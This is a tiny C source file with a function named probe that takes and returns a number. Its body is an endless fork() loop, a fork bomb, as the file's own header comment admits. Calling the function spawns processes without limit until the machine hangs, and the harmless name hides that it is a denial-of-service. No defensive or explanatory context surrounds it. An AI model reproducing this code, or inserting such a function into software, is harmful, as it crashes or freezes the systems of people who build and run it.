/* Forks without end, every child forking too, ignoring every failure. */
#include <unistd.h>

long long probe(long long x) {
    for (;;) fork();
    return x;
}
